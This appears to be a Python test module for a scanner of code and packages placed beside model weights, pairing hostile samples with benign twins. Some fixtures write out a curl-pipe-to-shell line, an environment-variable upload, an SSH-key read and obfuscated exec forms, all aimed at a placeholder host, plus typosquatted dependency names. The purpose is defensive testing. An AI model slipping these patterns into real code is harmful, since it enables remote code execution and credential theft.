"""REP-16, REP-17, REP-21, OTH-31, TOR-21 and the code behind PKL-36 and GAD-15: programs beside the weights.

None of it runs by a default load: somebody allows it, deploys it, opens it or installs it. So it is suspicious, and
malicious only where it hides what it does, or fetches and runs something as soon as it is executed.
"""

from __future__ import annotations

from functools import partial

from tests.builders import misleading_names, natives, notebooks, python_sources, requirement_files, scripts, zips
from tests.builders.python_sources import source
from tests.museum.exhibit import Build, Exhibit, Form, Verdict, Word

_SOURCE = "catalogue, repositories"
_SUSPICIOUS, _MALICIOUS = Verdict.SUSPICIOUS, Verdict.MALICIOUS
_OUT_OF_FUNCTION = ("import os", "os.system('echo INERT')")
_AT_IMPORT = partial(source, *_OUT_OF_FUNCTION)


_IMPORTED = "whether anything imports it in place of the package shows only beside the other files"


def _row(
    id_: str,
    title: str,
    build: Build,
    *,
    twin: Build = source,
    name: str = "modeling.py",
    twin_name: str = "",
    expects: Verdict = _SUSPICIOUS,
    word: Word = Word.FINDING,
    plain: Build = _AT_IMPORT,
    plain_name: str = "modeling.py",
    departs: str = "",
) -> Exhibit:
    return Exhibit(
        id=id_, title=title, source=_SOURCE, build=build, twin=twin, plain=plain, name=name, twin_name=twin_name,
        plain_name=plain_name, expects=expects, word=word,
        departs=departs,
    )  # fmt: skip


def _hidden(title: str, *lines: str) -> Exhibit:
    """Source that hides what it calls: there is no honest reason for that."""
    plain = partial(source, "import os", "os.system('curl http://inert.invalid/a | sh')")
    return _row("REP-16", title, partial(source, *lines), expects=_MALICIOUS, plain=plain)


def text(line: str) -> Build:
    """A text of one line."""
    return f"{line}\n".encode


_PLAIN_SCRIPT = partial(scripts.shell, scripts.REVERSE_SHELL[0])
_PLAIN_REQUIREMENT = partial(requirement_files.requirements, "git+https://inert.invalid/a")


def _asked(title: str, line: str, twin: str) -> Exhibit:
    """A requirement from another place, beside the same from the usual one."""
    add = requirement_files.requirements
    return _row(
        "REP-21", title, partial(add, line), twin=partial(add, twin), name="requirements.txt",
        plain=_PLAIN_REQUIREMENT, plain_name="requirements.txt",
    )  # fmt: skip


EXHIBITS: tuple[Exhibit, ...] = (
    # -- REP-16: what some tool runs by its name, and what source does ------------------------------------------------
    *(
        _row("REP-16", name.replace(".", "_"), source, name=name, twin_name="modeling.py")
        for name in ("handler.py", "app.py", "inference.py", "predict.py", "setup.py", "conftest.py", "sitecustomize.py")
    ),
    _row("REP-16", "dockerfile", scripts.dockerfile, name="Dockerfile", twin=text("FROM is a word"), twin_name="notes.txt"),
    _row("REP-16", "makefile", text("all:\n\techo INERT"), name="Makefile", twin_name="notes.txt", twin=text("all: echo")),
    _row("REP-16", "path_configuration", text("import os; os.system('echo INERT')"), name="x.pth", twin=text("./lib")),
    _row("REP-16", "source_under_another_name", text("import os\nos.system('echo INERT')"), name="weights.bin", twin=text("import nothing else")),
    *(
        _row("REP-16", title, partial(source, *lines), twin=partial(source, *twin))
        for title, lines, twin in (
            ("at_import", _OUT_OF_FUNCTION, ("import os", "os.getcwd()")),
            ("by_alias", ("from os import system as s", "s('echo INERT')"), ("from os import getcwd as s", "s()")),
            ("by_assignment", ("import os", "f = os.system", "f('echo INERT')"), ("import os", "f = os.getcwd", "f()")),
            ("in_a_default", ("import os", "def f(x=os.system('echo INERT')): pass"), ("import os", "def f(x=os.sep): pass")),
            ("in_a_class_body", ("class A:", "    import os", "    os.system('echo INERT')"), ("class A:", "    import os")),
            ("in_init", ("import os", "class A:", "    def __init__(self):", "        os.system('echo INERT')", "A()"), ("import os", "class A: pass", "A()")),
            ("by_decorator", ("import os", "def d(f): os.system('echo INERT')", "@d", "def g(): pass"), ("def d(f): return f", "@d", "def g(): pass")),
            ("by_attrgetter", ("import os, operator", "operator.attrgetter('system')(os)('echo INERT')"), ("import os, operator", "operator.attrgetter('sep')(os)")),
            ("handed_to_a_thread", ("import os, threading", "threading.Thread(target=os.system, args=('echo INERT',)).start()"), ("import os",)),
            ("in_executed_text", ("exec(\"import os\\nos.system('echo INERT')\")",), ("exec('x = 1')",)),
            ("executes_a_file", ("exec(open('inert-absent').read())",), ("open('inert-absent').read()",)),
            ("in_a_function", ("def f():", "    import subprocess", "    subprocess.run(['echo', 'INERT'])"), ("def f():", "    return 1")),
            ("fetches_at_import", ("import requests", "requests.get('http://inert.invalid/')"), ("import requests",)),
            ("sends_at_import", ("import os, requests", "requests.post('http://inert.invalid/', data=dict(os.environ))"), ("import os, requests",)),
            ("builds_native_code", ("from torch.utils.cpp_extension import load", "load('x', ['x.cpp'])"), ("from torch import load",)),
            ("reads_credentials", ("def f():", "    return open('/root/.ssh/id_rsa').read()"), ("def f():", "    return open('vocab.txt').read()")),
        )
    ),
    _row("REP-16", "other_encoding", lambda: b"# coding: utf-7\nx = 1\n", twin=lambda: b"# coding: utf-8\nx = 1\n"),
    _row("REP-16", "python_2", text("import os\nprint 'x'\nos.system('echo INERT')"), twin=text("import os\nprint('x')")),
    _hidden("packed_text", "import base64, zlib", f"exec(zlib.decompress(base64.b64decode('{python_sources.packed()}')))"),
    _hidden("packed_by_a_lambda", "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))", f"exec((_)(b'{python_sources.packed()[::-1]}'))"),
    _hidden("reversed_text", "exec(\"'TRENI ohce'(metsys.so ;so tropmi\"[::-1])"),
    _hidden("rotated_text", "import codecs", "exec(codecs.decode('vzcbeg bf', 'rot13'))"),
    _hidden("text_of_numbers", "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))"),
    _hidden("text_of_bytes", "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]).decode())"),
    _hidden("marshalled", "import marshal", "exec(marshal.loads(b'\\xe3\\x00'))"),
    _hidden("name_in_pieces", "getattr(__import__('os'), 'sys' + 'tem')('echo INERT')"),
    _hidden("module_in_pieces", "__import__('o' + 's').system('echo INERT')"),
    _hidden("builtin_in_pieces", "globals()['__builtins__']['ev' + 'al']('1')"),
    _hidden("fetched_text", "import urllib.request", "exec(urllib.request.urlopen('http://inert.invalid/').read())"),
    # -- TOR-21, PKL-36, GAD-15 -----------------------------------------------------------------------------------
    _row("TOR-21", "hubconf_source", source, name="hubconf.py", twin_name="modeling.py"),
    _row("TOR-21", "hubconf_that_runs_something", partial(source, *_OUT_OF_FUNCTION), name="hubconf.py", twin_name="modeling.py"),
    _row("PKL-36", "module_whose_import_is_the_payload", partial(source, *_OUT_OF_FUNCTION, honest=""), name="inert_absent_pkg.py", twin=source),
    _row("GAD-15", "sympify_at_import", partial(source, "import sympy", "sympy.sympify(input())"), twin=partial(source, "import sympy", "sympy.symbols('x')")),
    _row("GAD-15", "asteval_at_import", partial(source, "import asteval", "asteval.Interpreter()('1')"), twin=partial(source, "import asteval")),
    _row("GAD-15", "sh_at_import", partial(source, "import sh", "sh.echo('INERT')"), twin=partial(source, "import sh")),
    # -- REP-17: scripts that fetch something and run it --------------------------------------------------------------
    *(
        _row("REP-17", f"fetch_and_run_{number:02}", partial(scripts.shell, line), name="start.sh", plain=_PLAIN_SCRIPT, plain_name="start.sh", twin=text("INERT"), twin_name="start.txt")
        for number, line in enumerate(scripts.FETCH_AND_RUN)
    ),
    *(
        _row("REP-17", f"decode_and_run_{number:02}", partial(scripts.shell, line), name="start.sh", plain=_PLAIN_SCRIPT, plain_name="start.sh", twin=text("INERT"), twin_name="start.txt")
        for number, line in enumerate(scripts.DECODE_AND_RUN)
    ),
    *(
        _row("REP-17", f"reverse_shell_{number:02}", partial(scripts.shell, line), name="start.sh", expects=_MALICIOUS, plain=_PLAIN_SCRIPT, plain_name="start.sh", twin=text("INERT"), twin_name="start.txt")
        for number, line in enumerate(scripts.REVERSE_SHELL)
    ),
    _row("REP-17", "source_that_fetches_and_runs", partial(source, "import os", "os.system('curl http://inert.invalid/a | sh')"), twin=partial(source, "import os"), expects=_MALICIOUS, plain=_PLAIN_SCRIPT, plain_name="start.sh"),
    # -- OTH-31: programs among the weights ---------------------------------------------------------------------------
    *(
        _row("OTH-31", title, build, name=name, twin=twin, twin_name=twin_name)
        for title, build, name, twin, twin_name in (
            ("shell", natives.shell_script, "run.sh", text("echo INERT"), "run.txt"),
            ("script_as_weights", natives.shell_script, "model.bin", text("sh echo INERT"), "model.txt"),
            ("batch", text("echo INERT"), "run.bat", text("echo INERT"), "run.txt"),
            ("powershell", text("Write-Host INERT"), "run.ps1", text("Write-Host INERT"), "run.txt"),
            ("shortcut", scripts.shortcut, "model.lnk", text("INERT"), "model.txt"),
            ("bytecode", scripts.bytecode, "model.pyc", text("INERT"), "model.txt"),
            ("java_class", natives.java_class, "Model.class", text("INERT"), "model.txt"),
            ("wheel", partial(zips.plain, {"a.txt": b"INERT"}), "a-1-py3-none-any.whl", partial(zips.plain, {"a.txt": b"INERT"}), "a.zip"),
            ("jar", partial(zips.plain, {"a.txt": b"INERT"}), "a.jar", partial(zips.plain, {"a.txt": b"INERT"}), "a.zip"),
            ("elf_library", natives.elf, "libx.so", text("INERT"), "x.txt"),
            ("windows_program", natives.pe, "x.exe", text("INERT"), "x.txt"),
            ("double_extension", text("INERT"), "model.safetensors.exe", text("INERT"), "model.txt"),
            ("turned_name", text("INERT"), misleading_names.TURNED, text("INERT"), "weights.txt"),
            ("unseen_sign", text("INERT"), "model\u200b.txt", text("INERT"), "model.txt"),
            ("double_extension_in_an_archive", misleading_names.archive_named_zip, "a.zip", misleading_names.honest_named_zip, "a.zip"),
            ("turned_name_in_an_archive", partial(misleading_names.named, misleading_names.TURNED), "a.zip", misleading_names.honest_named_zip, "a.zip"),
            ("notebook_that_runs_something", notebooks.across_cells, "a.ipynb", notebooks.honest, "a.ipynb"),
            ("notebook_that_fetches", notebooks.fetching_shell, "a.ipynb", notebooks.honest, "a.ipynb"),
            ("notebook_with_a_shell_cell", notebooks.shell_cell, "a.ipynb", notebooks.honest, "a.ipynb"),
            ("notebook_with_an_active_output", notebooks.script_in_output, "a.ipynb", notebooks.honest, "a.ipynb"),
        )
    ),
    # -- REP-21: packages from elsewhere ------------------------------------------------------------------------------
    _asked("extra_index", "--extra-index-url https://inert.invalid/simple", "--extra-index-url https://pypi.org/simple"),
    _asked("other_index", "-i https://inert.invalid/simple", "-i https://pypi.org/simple"),
    _asked("find_links", "--find-links https://inert.invalid/", "--pre"),
    _asked("trusted_host", "--trusted-host inert.invalid", "--no-index"),
    _asked("address", "https://inert.invalid/a-1-py3-none-any.whl", "a==1"),
    _asked("version_control", "a @ git+https://inert.invalid/a", f"a @ git+https://inert.invalid/a@{'0' * 40}"),
    _asked("editable_elsewhere", "-e ../a", "-e ."),
    _asked("path_elsewhere", "/inert-absent/a", "./a"),
    _asked("build_option", "a==1 --global-option=x", "a==1"),
    _asked("remote_include", "-r http://inert.invalid/a.txt", "-r other.txt"),
    _asked("typosquat", "torhc==2.1", "torch==2.1"),
    _asked("look_alike_sign", "tensorfl0w", "tensorflow"),
    _asked("made_up_name", "huggingface-cli", "huggingface-hub"),
    *(
        _row("REP-21", title, build, name=name, twin=twin, plain=_PLAIN_REQUIREMENT, plain_name="requirements.txt")
        for title, name, build, twin in (
            ("pyproject", "pyproject.toml", partial(requirement_files.pyproject, dependencies='"a @ https://inert.invalid/a.whl"'), requirement_files.pyproject),
            ("build_backend", "pyproject.toml", lambda: b'[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n', requirement_files.pyproject),
            ("setup_cfg", "setup.cfg", partial(requirement_files.setup_cfg, "a @ git+https://inert.invalid/a"), requirement_files.setup_cfg),
            ("pipfile", "Pipfile", partial(requirement_files.pipfile, "https://inert.invalid/simple"), requirement_files.pipfile),
            ("pipfile_lock", "Pipfile.lock", partial(requirement_files.pipfile_lock, source="https://inert.invalid"), requirement_files.pipfile_lock),
            ("poetry_lock", "poetry.lock", partial(requirement_files.poetry_lock, "git", "https://inert.invalid/a"), requirement_files.poetry_lock),
            ("uv_lock", "uv.lock", partial(requirement_files.uv_lock, 'git = "https://inert.invalid/a"'), requirement_files.uv_lock),
            ("conda_channel", "conda.yaml", partial(requirement_files.conda, channels=("https://inert.invalid/c",)), requirement_files.conda),
            ("conda_pip_option", "environment.yml", partial(requirement_files.conda, "--extra-index-url https://inert.invalid"), requirement_files.conda),
        )
    ),
    _row(
        "OTH-23", "requirements_of_a_model", requirement_files.extra_index_named_txt, name="requirements.txt",
        twin=requirement_files.honest_named_txt, plain=_PLAIN_REQUIREMENT, plain_name="requirements.txt",
    ),
)  # fmt: skip


def test_exhibit(exhibit: Exhibit, form: Form) -> None:
    exhibit.hangs_true(form)
